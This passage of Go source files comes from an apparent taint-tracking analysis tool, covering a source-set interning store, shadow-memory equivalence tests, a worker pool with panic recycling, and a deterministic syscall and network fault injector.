			out = append(out, Source{Type: s.Type, Name: WideName})
		}
	}
	st.wideN++
	return out
}

// intern stores a canonical (sorted, deduplicated) set, degrading it
// first if it exceeds the width budget.
func (st *Store) intern(set []Source) Tag {
	set = st.clampWidth(set)
	k := key(set)
	if t, ok := st.index[k]; ok {
		return t
	}
	t := Tag(len(st.sets))
	st.sets = append(st.sets, set)
	st.index[k] = t
	return t
}

// Union returns the tag for the union of the two source sets.
// Union(x, Empty) == x for all x. Results are cached both ways.
func (st *Store) Union(a, b Tag) Tag {
	if a == b || b == Empty {
		return a
	}
	if a == Empty {
		return b
	}
	if a > b {
		a, b = b, a
	}
	st.unionN++
	slot := &st.ucache[(uint32(a)*0x9E3779B1^uint32(b)*0x85EBCA77)&(unionCacheSize-1)]
	if slot.a == a && slot.b == b {
		st.hitN++
		st.fastN++
		return slot.out
	}
	if t, ok := st.unions[[2]Tag{a, b}]; ok {
		st.hitN++
		*slot = unionEntry{a, b, t}
		return t
	}
	sa, sb := st.sets[a], st.sets[b]
	merged := make([]Source, 0, len(sa)+len(sb))
	i, j := 0, 0
	for i < len(sa) && j < len(sb) {
		switch {
		case sa[i] == sb[j]:
			merged = append(merged, sa[i])
			i++
			j++
		case sa[i].Less(sb[j]):
			merged = append(merged, sa[i])
			i++
		default:
			merged = append(merged, sb[j])
			j++
		}
	}
	merged = append(merged, sa[i:]...)
	merged = append(merged, sb[j:]...)
	t := st.intern(merged)
	st.unions[[2]Tag{a, b}] = t
	*slot = unionEntry{a, b, t}
	return t
}

// Union4 returns the tag for the union of four source sets: the tag a
// 32-bit load observes on a byte-granular shadow page. It reuses the
// direct-mapped union cache through Union, but first collapses the
// shapes byte-mode pages overwhelmingly produce — four equal tags, or
// two uniform halves — so the common case pays equality compares
// instead of cache probes.
func (st *Store) Union4(a, b, c, d Tag) Tag {
	if a == b {
		if c == d {
			return st.Union(a, c)
		}
		return st.Union(a, st.Union(c, d))
	}
	return st.Union(st.Union(a, b), st.Union(c, d))
}

// UnionAll folds Union over the given tags.
func (st *Store) UnionAll(tags ...Tag) Tag {
	out := Empty
	for _, t := range tags {
		out = st.Union(out, t)
	}
	return out
}

// Sources returns the canonical source set named by t. The returned
// slice must not be modified. An unknown tag yields nil.
func (st *Store) Sources(t Tag) []Source {
	if int(t) >= len(st.sets) {
		return nil
	}
	return st.sets[t]
}

// Has reports whether the set named by t contains any source of the
// given type.
func (st *Store) Has(t Tag, typ SourceType) bool {
	for _, s := range st.sets[validIdx(st, t)] {
		if s.Type == typ {
			return true
		}
	}
	return false
}

// OfType returns the sources of the given type contained in t.
func (st *Store) OfType(t Tag, typ SourceType) []Source {
	var out []Source
	for _, s := range st.sets[validIdx(st, t)] {
		if s.Type == typ {
			out = append(out, s)
		}
	}
	return out
}

// Contains reports whether the set named by t contains exactly the
// given source.
func (st *Store) Contains(t Tag, src Source) bool {
	for _, s := range st.sets[validIdx(st, t)] {
		if s == src {
			return true
		}
	}
	return false
}

func validIdx(st *Store, t Tag) int {
	if int(t) >= len(st.sets) {
		return 0
	}
	return int(t)
}

// Len returns the number of sources in the set named by t.
func (st *Store) Len(t Tag) int { return len(st.Sources(t)) }

// String renders the source set named by t, e.g.
// {FILE:"/etc/passwd", BINARY:"/bin/ls"}. Empty renders as {}.
func (st *Store) String(t Tag) string {
	set := st.Sources(t)
	if len(set) == 0 {
		return "{}"
	}
	parts := make([]string, len(set))
	for i, s := range set {
		parts[i] = s.String()
	}
	return "{" + strings.Join(parts, ", ") + "}"
}

// Stats reports interning statistics: distinct sets, union operations,
// and union cache hits (direct-mapped or map).
func (st *Store) Stats() (sets int, unions, hits uint64) {
	return len(st.sets), st.unionN, st.hitN
}

// FastHits reports how many union cache hits were served by the
// direct-mapped cache without touching the union map.
func (st *Store) FastHits() uint64 { return st.fastN }

// WidthHistogram returns the distribution of interned set widths:
// widths[w] = number of distinct live sets carrying exactly w sources.
// The empty set (tag 0) is excluded.
func (st *Store) WidthHistogram() map[int]uint64 {
	out := make(map[int]uint64)
	for t, set := range st.sets {
		if t == 0 {
			continue
		}
		out[len(set)]++
	}
	return out
}
