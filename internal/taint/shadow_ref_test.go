package taint

import (
	"fmt"
	"math/rand"
	"testing"
)

// refShadow is the naive per-byte reference implementation of the
// Shadow semantics: a plain map from address to tag. The word-granular
// fast paths must be observationally identical to it.
type refShadow struct {
	store *Store
	tags  map[uint32]Tag
}

func newRefShadow(st *Store) *refShadow {
	return &refShadow{store: st, tags: make(map[uint32]Tag)}
}

func (r *refShadow) Get(addr uint32) Tag { return r.tags[addr] }

func (r *refShadow) Set(addr uint32, t Tag) {
	if t == Empty {
		delete(r.tags, addr)
		return
	}
	r.tags[addr] = t
}

func (r *refShadow) SetRange(addr, n uint32, t Tag) {
	for i := uint32(0); i < n; i++ {
		r.Set(addr+i, t)
	}
}

func (r *refShadow) GetRange(addr, n uint32) Tag {
	out := Empty
	for i := uint32(0); i < n; i++ {
		out = r.store.Union(out, r.Get(addr+i))
	}
	return out
}

func (r *refShadow) GetWord(addr uint32) Tag    { return r.GetRange(addr, 4) }
func (r *refShadow) SetWord(addr uint32, t Tag) { r.SetRange(addr, 4, t) }

func (r *refShadow) Copy(dst, src, n uint32) {
	if dst == src || n == 0 {
		return
	}
	if dst < src {
		for i := uint32(0); i < n; i++ {
			r.Set(dst+i, r.Get(src+i))
		}
		return
	}
	for i := n; i > 0; i-- {
		r.Set(dst+i-1, r.Get(src+i-1))
	}
}

func (r *refShadow) Clone() *refShadow {
	out := newRefShadow(r.store)
	for a, t := range r.tags {
		out.tags[a] = t
	}
	return out
}

// refWorld is the address window the property tests roam over: three
// pages plus both boundary straddles.
const refWindow = 3 * pageSize

// checkEquiv asserts the fast shadow and the reference agree on every
// byte of the window and on a sweep of word reads (both alignments).
func checkEquiv(t *testing.T, step string, sh *Shadow, ref *refShadow) {
	t.Helper()
	base := uint32(0x10000)
	for a := uint32(0); a < refWindow; a++ {
		if got, want := sh.Get(base+a), ref.Get(base+a); got != want {
			t.Fatalf("%s: byte %#x = %d, want %d", step, base+a, got, want)
		}
	}
	for a := uint32(0); a+4 <= refWindow; a += 3 { // hits all alignments
		if got, want := sh.GetWord(base+a), ref.GetWord(base+a); got != want {
			t.Fatalf("%s: word %#x = %d, want %d", step, base+a, got, want)
		}
	}
}

// tagsFor builds a small palette of tags, including Empty and a
// multi-source union.
func tagPalette(st *Store) []Tag {
	a := st.Of(Source{File, "a"})
	b := st.Of(Source{Socket, "b"})
	c := st.Of(Source{Binary, "c"})
	d := st.Of(Source{UserInput, "stdin"})
	return []Tag{Empty, a, b, c, d, st.Union(a, b), st.Union(c, d)}
}

// TestShadowEquivAlignedWords drives aligned word traffic and checks
// exact equivalence (the pure word-mode fast path).
func TestShadowEquivAlignedWords(t *testing.T) {
	st := NewStore()
	sh, ref := NewShadow(st), newRefShadow(st)
	tags := tagPalette(st)
	rng := rand.New(rand.NewSource(1))
	base := uint32(0x10000)
	for i := 0; i < 4000; i++ {
		a := base + uint32(rng.Intn(refWindow/4-1))*4
		tg := tags[rng.Intn(len(tags))]
		sh.SetWord(a, tg)
		ref.SetWord(a, tg)
	}
	checkEquiv(t, "aligned words", sh, ref)
	if sh.bytePages() != 0 {
		t.Errorf("aligned word traffic degraded %d pages to byte mode", sh.bytePages())
	}
}

// TestShadowEquivUnalignedWords mixes aligned and unaligned word
// accesses, including page-straddling ones.
func TestShadowEquivUnalignedWords(t *testing.T) {
	st := NewStore()
	sh, ref := NewShadow(st), newRefShadow(st)
	tags := tagPalette(st)
	rng := rand.New(rand.NewSource(2))
	base := uint32(0x10000)
	for i := 0; i < 4000; i++ {
		a := base + uint32(rng.Intn(refWindow-4))
		tg := tags[rng.Intn(len(tags))]
		if rng.Intn(2) == 0 {
			sh.SetWord(a, tg)
			ref.SetWord(a, tg)
		} else {
			if got, want := sh.GetWord(a), ref.GetWord(a); got != want {
				t.Fatalf("GetWord(%#x) = %d, want %d", a, got, want)
			}
		}
	}
	checkEquiv(t, "unaligned words", sh, ref)
}

// TestShadowEquivByteWordInterleave models MOVB traffic into
// word-tagged pages: the degrade path.
func TestShadowEquivByteWordInterleave(t *testing.T) {
	st := NewStore()
	sh, ref := NewShadow(st), newRefShadow(st)
	tags := tagPalette(st)
	rng := rand.New(rand.NewSource(3))
	base := uint32(0x10000)
	for i := 0; i < 6000; i++ {
		tg := tags[rng.Intn(len(tags))]
		switch rng.Intn(4) {
		case 0: // aligned word store
			a := base + uint32(rng.Intn(refWindow/4-1))*4
			sh.SetWord(a, tg)
			ref.SetWord(a, tg)
		case 1: // byte store (MOVB)
			a := base + uint32(rng.Intn(refWindow))
			sh.Set(a, tg)
			ref.Set(a, tg)
		case 2: // byte read
			a := base + uint32(rng.Intn(refWindow))
			if got, want := sh.Get(a), ref.Get(a); got != want {
				t.Fatalf("Get(%#x) = %d, want %d", a, got, want)
			}
		case 3: // word read, any alignment
			a := base + uint32(rng.Intn(refWindow-4))
			if got, want := sh.GetWord(a), ref.GetWord(a); got != want {
				t.Fatalf("GetWord(%#x) = %d, want %d", a, got, want)
			}
		}
	}
	checkEquiv(t, "byte/word interleave", sh, ref)
}

// TestShadowEquivRanges drives SetRange/GetRange/ClearRange with
// arbitrary offsets and lengths, crossing page boundaries.
func TestShadowEquivRanges(t *testing.T) {
	st := NewStore()
	sh, ref := NewShadow(st), newRefShadow(st)
	tags := tagPalette(st)
	rng := rand.New(rand.NewSource(4))
	base := uint32(0x10000)
	for i := 0; i < 1500; i++ {
		a := base + uint32(rng.Intn(refWindow-1))
		n := uint32(rng.Intn(2 * pageSize))
		if a+n > base+refWindow {
			n = base + refWindow - a
		}
		tg := tags[rng.Intn(len(tags))]
		switch rng.Intn(3) {
		case 0:
			sh.SetRange(a, n, tg)
			ref.SetRange(a, n, tg)
		case 1:
			sh.ClearRange(a, n)
			ref.SetRange(a, n, Empty)
		case 2:
			if got, want := sh.GetRange(a, n), ref.GetRange(a, n); got != want {
				t.Fatalf("GetRange(%#x,%d) = %d, want %d", a, n, got, want)
			}
		}
	}
	checkEquiv(t, "ranges", sh, ref)
}

// TestShadowEquivCopyOverlap checks Copy over overlapping ranges in
// both directions, across mixed-mode pages.
func TestShadowEquivCopyOverlap(t *testing.T) {
	st := NewStore()
	sh, ref := NewShadow(st), newRefShadow(st)
	tags := tagPalette(st)
	rng := rand.New(rand.NewSource(5))
	base := uint32(0x10000)
	// Seed mixed word/byte state.
	for i := 0; i < 2000; i++ {
		a := base + uint32(rng.Intn(refWindow))
		tg := tags[rng.Intn(len(tags))]
		if rng.Intn(2) == 0 && a&3 == 0 {
			sh.SetWord(a, tg)
			ref.SetWord(a, tg)
		} else {
			sh.Set(a, tg)
			ref.Set(a, tg)
		}
	}
	for i := 0; i < 300; i++ {
		src := base + uint32(rng.Intn(refWindow/2))
		n := uint32(rng.Intn(200))
		// Bias toward overlapping moves in both directions.
		dst := src + uint32(rng.Intn(300)) - 150
		if dst < base {
			dst = base
		}
		if dst+n > base+refWindow || src+n > base+refWindow {
			continue
		}
		sh.Copy(dst, src, n)
		ref.Copy(dst, src, n)
	}
	checkEquiv(t, "copy overlap", sh, ref)
}

// TestShadowEquivCloneDiverge clones mid-stream and checks parent and
// child diverge independently while both stay equivalent to their
// references.
func TestShadowEquivCloneDiverge(t *testing.T) {
	st := NewStore()
	sh, ref := NewShadow(st), newRefShadow(st)
	tags := tagPalette(st)
	base := uint32(0x10000)
	simple := func(s *Shadow, r *refShadow, seed int64, n int) {
		rr := rand.New(rand.NewSource(seed))
		for i := 0; i < n; i++ {
			a := base + uint32(rr.Intn(refWindow-4))
			tg := tags[rr.Intn(len(tags))]
			switch rr.Intn(3) {
			case 0:
				s.Set(a, tg)
				r.Set(a, tg)
			case 1:
				s.SetWord(a, tg)
				r.SetWord(a, tg)
			case 2:
				ln := uint32(rr.Intn(64))
				s.SetRange(a, ln, tg)
				r.SetRange(a, ln, tg)
			}
		}
	}
	simple(sh, ref, 60, 3000)
	child, childRef := sh.Clone(), ref.Clone()
	checkEquiv(t, "clone snapshot", child, childRef)
	// Diverge parent and child with different streams.
	simple(sh, ref, 61, 2000)
	simple(child, childRef, 62, 2000)
	checkEquiv(t, "parent after diverge", sh, ref)
	checkEquiv(t, "child after diverge", child, childRef)
}

// TestShadowClearRangeSkipsCleanPages asserts the satellite fix: an
// Empty-tag range over unallocated pages allocates nothing (and, by
// construction, no longer probes the page map per byte).
func TestShadowClearRangeSkipsCleanPages(t *testing.T) {
	st := NewStore()
	sh := NewShadow(st)
	sh.ClearRange(0, 16*pageSize)
	if sh.Pages() != 0 {
		t.Fatalf("ClearRange over clean memory allocated %d pages", sh.Pages())
	}
	sh.SetRange(5*pageSize, 2*pageSize, Empty)
	if sh.Pages() != 0 {
		t.Fatalf("SetRange(Empty) over clean memory allocated %d pages", sh.Pages())
	}
}

// TestShadowWordModeStaysWordMode asserts aligned traffic never pays
// the byte-mode cost, and that a MOVB write with the same tag does not
// degrade the page.
func TestShadowWordModeStaysWordMode(t *testing.T) {
	st := NewStore()
	sh := NewShadow(st)
	tg := st.Of(Source{File, "f"})
	for a := uint32(0); a < pageSize; a += 4 {
		sh.SetWord(a, tg)
	}
	sh.Set(8, tg) // same tag: must not degrade
	if sh.bytePages() != 0 {
		t.Fatal("same-tag byte write degraded the page")
	}
	other := st.Of(Source{Socket, "s"})
	sh.Set(8, other) // differing tag: must degrade, stay correct
	if sh.bytePages() != 1 {
		t.Fatal("differing byte write did not degrade the page")
	}
	if sh.Get(8) != other || sh.Get(9) != tg || sh.GetWord(8) != st.Union(tg, other) {
		t.Fatal("degraded page returned wrong tags")
	}
}

func BenchmarkShadowAlignedWords(b *testing.B) {
	st := NewStore()
	sh := NewShadow(st)
	tg := st.Of(Source{File, "bench"})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		a := (uint32(i) * 4) & 0xFFFF
		sh.SetWord(a, tg)
		_ = sh.GetWord(a)
	}
}

func ExampleShadow_wordGranular() {
	st := NewStore()
	sh := NewShadow(st)
	f := st.Of(Source{File, "/etc/passwd"})
	sh.SetWord(0x1000, f)
	fmt.Println(st.String(sh.GetWord(0x1000)))
	// Output: {FILE:"/etc/passwd"}
}
