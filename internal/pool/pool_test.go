package pool

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestPoolRunsEverything(t *testing.T) {
	p := New(Options{Workers: 4})
	var n atomic.Int64
	for i := 0; i < 100; i++ {
		if !p.Submit(Task{Run: func() { n.Add(1) }}) {
			t.Fatalf("submit %d rejected on an unbounded pool", i)
		}
	}
	p.Close()
	if got := n.Load(); got != 100 {
		t.Fatalf("ran %d tasks, want 100", got)
	}
}

func TestPoolBoundedQueueBackpressure(t *testing.T) {
	release := make(chan struct{})
	p := New(Options{Workers: 1, Depth: 2})
	started := make(chan struct{})
	// Occupy the single worker so subsequent submits stay queued.
	p.Submit(Task{Run: func() { close(started); <-release }})
	<-started
	if !p.Submit(Task{Run: func() {}}) || !p.Submit(Task{Run: func() {}}) {
		t.Fatalf("queue rejected below its depth")
	}
	if p.Submit(Task{Run: func() {}}) {
		t.Fatalf("queue accepted past its depth")
	}
	if q := p.Queued(); q != 2 {
		t.Fatalf("Queued() = %d, want 2", q)
	}
	close(release)
	p.Close()
}

func TestPoolPanicRecyclesWorker(t *testing.T) {
	var recycled atomic.Int64
	var panicked atomic.Int64
	p := New(Options{Workers: 2, OnRecycle: func(any) { recycled.Add(1) }})
	var n atomic.Int64
	for i := 0; i < 20; i++ {
		i := i
		p.Submit(Task{
			Run: func() {
				if i%5 == 0 {
					panic("boom")
				}
				n.Add(1)
			},
			OnPanic: func(v any) {
				if v != "boom" {
					t.Errorf("OnPanic value = %v, want boom", v)
				}
				panicked.Add(1)
			},
		})
	}
	p.Close()
	if got := n.Load(); got != 16 {
		t.Fatalf("clean tasks ran = %d, want 16", got)
	}
	if got := panicked.Load(); got != 4 {
		t.Fatalf("OnPanic calls = %d, want 4", got)
	}
	if got := recycled.Load(); got != 4 {
		t.Fatalf("recycles = %d, want 4", got)
	}
	if got := p.Recycled(); got != 4 {
		t.Fatalf("Recycled() = %d, want 4", got)
	}
}

func TestPoolDrainAbortsQueued(t *testing.T) {
	release := make(chan struct{})
	started := make(chan struct{})
	p := New(Options{Workers: 1, Depth: 8})
	var ran, aborted atomic.Int64
	p.Submit(Task{Run: func() { close(started); <-release; ran.Add(1) }})
	<-started
	for i := 0; i < 5; i++ {
		p.Submit(Task{
			Run:   func() { ran.Add(1) },
			Abort: func() { aborted.Add(1) },
		})
	}
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		time.Sleep(10 * time.Millisecond)
		close(release)
	}()
	p.Drain()
	wg.Wait()
	if got := ran.Load(); got != 1 {
		t.Fatalf("in-flight tasks run = %d, want 1", got)
	}
	if got := aborted.Load(); got != 5 {
		t.Fatalf("aborted tasks = %d, want 5", got)
	}
	if p.Submit(Task{Run: func() {}}) {
		t.Fatalf("drained pool accepted a task")
	}
}
