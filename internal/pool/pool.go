// Package pool is the worker-pool substrate shared by the parallel
// corpus runner and the hth analysis service: fixed worker goroutines
// draining a (optionally bounded) task queue, with panic containment
// per task and worker recycling — a task that panics takes down only
// its own execution, the worker goroutine is replaced, and the queue
// keeps draining.
//
// Two shutdown disciplines are provided, matching the two callers:
//
//   - Close: stop accepting, run everything already queued, wait
//     (the corpus sweep — every scenario must execute);
//   - Drain: stop accepting, let in-flight tasks finish, and hand
//     every still-queued task to its Abort hook instead of Run (the
//     service's graceful drain — no job ever vanishes, queued work is
//     completed as a structured abort).
package pool

import (
	"sync"
	"time"
)

// Task is one unit of work. Run executes on a worker goroutine; the
// optional hooks give the submitter a say in the two abnormal ends a
// task can meet.
type Task struct {
	// Run performs the work. Required.
	Run func()
	// Abort is invoked — instead of Run — when the pool is drained
	// while the task is still queued. Nil drops the task silently;
	// callers that must account for every submission (the service's
	// "no job ever vanishes" guarantee) complete the work item here.
	Abort func()
	// OnPanic is invoked on the recovering goroutine when Run panics,
	// with the recovered value, after the worker's replacement has
	// been arranged. The task is not retried by the pool; retry policy
	// belongs to the submitter.
	OnPanic func(v any)

	// enqueued is stamped by Submit so the dequeue can attribute the
	// task's queue wait (see QueueWait).
	enqueued time.Time
}

// Options configure a pool.
type Options struct {
	// Workers is the number of worker goroutines (<= 0 selects 1).
	Workers int
	// Depth bounds the queue of not-yet-running tasks; Submit returns
	// false when the bound is reached. 0 leaves the queue unbounded
	// (the corpus discipline: enqueue the whole sweep, let the
	// workers drain it).
	Depth int
	// OnRecycle, when non-nil, is told about each worker recycle (a
	// task panic that retired a worker goroutine and spawned a
	// replacement), with the recovered value.
	OnRecycle func(v any)
}

// Pool runs tasks on a fixed set of worker goroutines.
type Pool struct {
	mu       sync.Mutex
	cond     *sync.Cond
	opts     Options
	queue    []Task
	inflight int
	recycled uint64
	waited   uint64 // tasks whose queue wait has been recorded
	waitNS   int64  // cumulative queue wait
	closed   bool // no further Submits; workers exit when queue empties
	wg       sync.WaitGroup
}

// New builds a pool and starts its workers.
func New(opts Options) *Pool {
	if opts.Workers <= 0 {
		opts.Workers = 1
	}
	p := &Pool{opts: opts}
	p.cond = sync.NewCond(&p.mu)
	p.wg.Add(opts.Workers)
	for i := 0; i < opts.Workers; i++ {
		go p.worker()
	}
	return p
}

// Submit enqueues a task. It reports false — and does not retain the
// task — when the queue is at Depth or the pool is closed/draining;
// the caller owns the backpressure response.
func (p *Pool) Submit(t Task) bool {
	if t.Run == nil {
		return false
	}
	p.mu.Lock()
	if p.closed || (p.opts.Depth > 0 && len(p.queue) >= p.opts.Depth) {
		p.mu.Unlock()
		return false
	}
	t.enqueued = time.Now()
	p.queue = append(p.queue, t)
	p.mu.Unlock()
	p.cond.Signal()
	return true
}

// QueueWait reports the cumulative time dequeued tasks spent waiting
// in the queue and how many tasks that covers — the pool-level side
// of the service's queue-wait attribution (shard gauges divide the
// two for a running average).
func (p *Pool) QueueWait() (tasks uint64, total time.Duration) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.waited, time.Duration(p.waitNS)
}

// Queued returns the number of tasks waiting to run.
func (p *Pool) Queued() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return len(p.queue)
}

// InFlight returns the number of tasks currently executing.
func (p *Pool) InFlight() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.inflight
}

// Recycled returns how many worker goroutines have been replaced
// after a task panic.
func (p *Pool) Recycled() uint64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.recycled
}

// Close stops accepting new tasks, runs everything already queued,
// and waits for the workers to exit. Safe to call once.
func (p *Pool) Close() {
	p.mu.Lock()
	p.closed = true
	p.mu.Unlock()
	p.cond.Broadcast()
	p.wg.Wait()
}

// Drain stops accepting new tasks, pulls every still-queued task off
// the queue and invokes its Abort hook inline, then waits for the
// in-flight tasks (and the workers) to finish. A task observed by
// Drain is therefore either run to completion by a worker (it was
// already in flight) or aborted — never dropped.
func (p *Pool) Drain() {
	p.mu.Lock()
	p.closed = true
	aborted := p.queue
	p.queue = nil
	p.mu.Unlock()
	p.cond.Broadcast()
	for _, t := range aborted {
		if t.Abort != nil {
			t.Abort()
		}
	}
	p.wg.Wait()
}

// worker is one pool goroutine: dequeue, run, repeat. A panicking
// task retires the goroutine (after recovery and bookkeeping) and a
// replacement inherits its WaitGroup slot, so one hostile task never
// shrinks the pool.
func (p *Pool) worker() {
	for {
		p.mu.Lock()
		for len(p.queue) == 0 && !p.closed {
			p.cond.Wait()
		}
		if len(p.queue) == 0 {
			p.mu.Unlock()
			p.wg.Done()
			return
		}
		t := p.queue[0]
		p.queue = p.queue[1:]
		p.inflight++
		if !t.enqueued.IsZero() {
			p.waited++
			p.waitNS += time.Since(t.enqueued).Nanoseconds()
		}
		p.mu.Unlock()
		if !p.runTask(t) {
			// The task panicked: recycle this worker. The replacement
			// goroutine takes over the wg slot; this one exits.
			p.mu.Lock()
			p.recycled++
			p.mu.Unlock()
			go p.worker()
			return
		}
	}
}

// runTask executes one task with panic containment, reporting whether
// it completed without panicking.
func (p *Pool) runTask(t Task) (ok bool) {
	defer func() {
		p.mu.Lock()
		p.inflight--
		p.mu.Unlock()
		if r := recover(); r != nil {
			ok = false
			if t.OnPanic != nil {
				t.OnPanic(r)
			}
			if p.opts.OnRecycle != nil {
				p.opts.OnRecycle(r)
			}
		}
	}()
	t.Run()
	return true
}
