package chaos

import (
	"fmt"

	"repro/internal/obs"
	"repro/internal/vos"
)

// Kind classifies an injected fault.
type Kind uint8

const (
	// ReadErr fails a read()/recv() with EIO before it executes.
	ReadErr Kind = iota
	// WriteErr fails a write()/send() with EIO before it executes.
	WriteErr
	// OpenErr fails an open()/creat() with EIO or ENOMEM.
	OpenErr
	// ConnectErr fails a connect() with ECONNREFUSED.
	ConnectErr
	// AcceptErr fails an accept() with ECONNABORTED.
	AcceptErr
	// ShortRead truncates a completing read to fewer bytes than asked.
	ShortRead
	// NetDelay postpones a scheduled remote peer's inbound dial.
	NetDelay
	// NetDrop cancels a scheduled remote peer's inbound dial entirely.
	NetDrop
	// RemoteDrop loses a scripted remote's response in flight: the
	// remote sees a successful send, the guest never gets the bytes.
	RemoteDrop

	// Service-level fault kinds (consumed by hth.Service and its soak
	// harness rather than the vos seams; see service.go).

	// WorkerCrash panics an analysis-service worker goroutine outside
	// the run's panic containment, forcing the pool to recycle it.
	WorkerCrash
	// QueueStall delays a dequeued job before it executes, simulating
	// a wedged dispatch path.
	QueueStall
	// SlowReader throttles a tenant's consumption of its job's
	// streamed updates, exercising the drop-not-stall stream path.
	SlowReader
	// BadJobSpec corrupts a submitted job specification before
	// validation, forcing the typed-rejection path.
	BadJobSpec

	numKinds
)

var kindNames = [numKinds]string{
	ReadErr:     "read",
	WriteErr:    "write",
	OpenErr:     "open",
	ConnectErr:  "connect",
	AcceptErr:   "accept",
	ShortRead:   "shortread",
	NetDelay:    "netdelay",
	NetDrop:     "netdrop",
	RemoteDrop:  "remotedrop",
	WorkerCrash: "workercrash",
	QueueStall:  "queuestall",
	SlowReader:  "slowreader",
	BadJobSpec:  "badspec",
}

// String returns the plan-syntax name of the kind.
func (k Kind) String() string {
	if k < numKinds {
		return kindNames[k]
	}
	return fmt.Sprintf("Kind(%d)", uint8(k))
}

// KindByName resolves a plan-syntax kind name.
func KindByName(name string) (Kind, bool) {
	for k, n := range kindNames {
		if n == name {
			return Kind(k), true
		}
	}
	return 0, false
}

// KindNames returns all kind names in Kind order.
func KindNames() []string {
	return append([]string(nil), kindNames[:]...)
}

// Fault records one injected fault, in injection order (Seq).
type Fault struct {
	Kind  Kind
	Seq   int    // 0-based injection sequence number
	PID   int    // guest process hit, 0 for network-level faults
	Num   uint32 // syscall number at the fault point, 0 otherwise
	Path  string // path or address involved, "" when none
	Errno uint32 // errno delivered, 0 for non-errno faults
	Clock uint64 // virtual clock at injection
	Info  uint64 // kind detail: bytes kept (ShortRead), ticks (NetDelay)
}

// String renders the fault for sweep reports.
func (f Fault) String() string {
	s := fmt.Sprintf("#%d @%d %s", f.Seq, f.Clock, f.Kind)
	if f.PID != 0 {
		s += fmt.Sprintf(" pid=%d", f.PID)
	}
	if f.Path != "" {
		s += " " + f.Path
	}
	if f.Errno != 0 {
		s += fmt.Sprintf(" errno=%d", f.Errno)
	}
	if f.Info != 0 {
		s += fmt.Sprintf(" info=%d", f.Info)
	}
	return s
}

// Injector is a deterministic vos.FaultInjector driven by a Plan. Not
// safe for concurrent use: attach one Injector to one OS (the
// simulation is single-threaded per run).
type Injector struct {
	plan   Plan
	state  uint64 // splitmix64 state
	faults []Fault
	bus    *obs.Bus
}

// New returns an injector for the plan. Two injectors built from equal
// plans produce identical decision streams.
func New(p Plan) *Injector {
	return &Injector{plan: p, state: p.Seed}
}

// Plan returns the plan the injector was built from.
func (in *Injector) Plan() Plan { return in.plan }

// Faults returns the injected faults in order. The slice is owned by
// the injector; callers must not modify it.
func (in *Injector) Faults() []Fault { return in.faults }

// Count returns the number of faults injected so far.
func (in *Injector) Count() int { return len(in.faults) }

// splitmix64 is the PRNG step: tiny, fast, and fully determined by the
// 64-bit state, which keeps fault streams reproducible across runs.
func splitmix64(x uint64) uint64 {
	x += 0x9E3779B97F4A7C15
	z := x
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

func (in *Injector) next() uint64 {
	in.state += 0x9E3779B97F4A7C15
	z := in.state
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// roll decides whether an offered decision point of kind k fires. A
// zero rate or disabled kind returns false without consuming PRNG
// state, so a zero-rate injector is exactly a no-op.
func (in *Injector) roll(k Kind) bool {
	if in.plan.Rate <= 0 || !in.plan.Enabled(k) {
		return false
	}
	return float64(in.next()>>11)/(1<<53) < in.plan.Rate
}

// SetBus attaches the observability bus; every recorded fault is also
// published as a chaos.fault event.
func (in *Injector) SetBus(b *obs.Bus) { in.bus = b }

func (in *Injector) record(f Fault) {
	f.Seq = len(in.faults)
	in.faults = append(in.faults, f)
	if in.bus != nil {
		in.bus.Publish(obs.Event{
			Time: f.Clock, Layer: obs.LayerChaos, Kind: obs.KindChaosFault,
			PID: int32(f.PID), Num: uint64(f.Errno), Num2: f.Info,
			Str: f.Kind.String(), Str2: f.Path,
		})
	}
}

// SyscallFault implements vos.FaultInjector: it may fail a read,
// write, open/creat, connect, or accept with a kind-appropriate errno.
func (in *Injector) SyscallFault(fp vos.FaultPoint) (uint32, bool) {
	var kind Kind
	var e uint32
	switch {
	case fp.Num == vos.SysRead:
		kind, e = ReadErr, vos.EIO
	case fp.Num == vos.SysWrite:
		kind, e = WriteErr, vos.EIO
	case fp.Num == vos.SysOpen || fp.Num == vos.SysCreat:
		kind, e = OpenErr, vos.EIO
	case fp.Sock == vos.SockConnect:
		kind, e = ConnectErr, vos.ECONN
	case fp.Sock == vos.SockAccept:
		kind, e = AcceptErr, vos.ECONNABORT
	default:
		return 0, false
	}
	if !in.roll(kind) {
		return 0, false
	}
	if kind == OpenErr && in.next()&1 == 1 {
		e = vos.ENOMEM // opens alternate between I/O and memory failures
	}
	in.record(Fault{Kind: kind, PID: fp.PID, Num: fp.Num, Path: fp.Path, Errno: e, Clock: fp.Clock})
	return e, true
}

// ShortRead implements vos.FaultInjector: it may clamp a completing
// read of want bytes to some 1 <= n < want. Reads of a single byte are
// never clamped (a zero-byte return would be a spurious EOF, which is
// a different fault class than a short read).
func (in *Injector) ShortRead(fp vos.FaultPoint, want uint32) uint32 {
	if want <= 1 || !in.roll(ShortRead) {
		return want
	}
	n := 1 + uint32(in.next()%uint64(want-1))
	in.record(Fault{Kind: ShortRead, PID: fp.PID, Num: fp.Num, Clock: fp.Clock, Info: uint64(n)})
	return n
}

// ScheduledConnect implements vos.FaultInjector: a due inbound dial
// from a scripted remote may be dropped outright or postponed.
func (in *Injector) ScheduledConnect(clock uint64, addr string) (uint64, bool) {
	if in.roll(NetDrop) {
		in.record(Fault{Kind: NetDrop, Path: addr, Clock: clock})
		return 0, true
	}
	if in.roll(NetDelay) {
		d := 500 + in.next()%5000
		in.record(Fault{Kind: NetDelay, Path: addr, Clock: clock, Info: d})
		return d, false
	}
	return 0, false
}

// DropRemote implements vos.FaultInjector: a scripted remote's
// response of n bytes may be lost in flight.
func (in *Injector) DropRemote(addr string, n int) bool {
	if !in.roll(RemoteDrop) {
		return false
	}
	in.record(Fault{Kind: RemoteDrop, Path: addr, Info: uint64(n)})
	return true
}
