package chaos

import (
	"reflect"
	"testing"

	"repro/internal/vos"
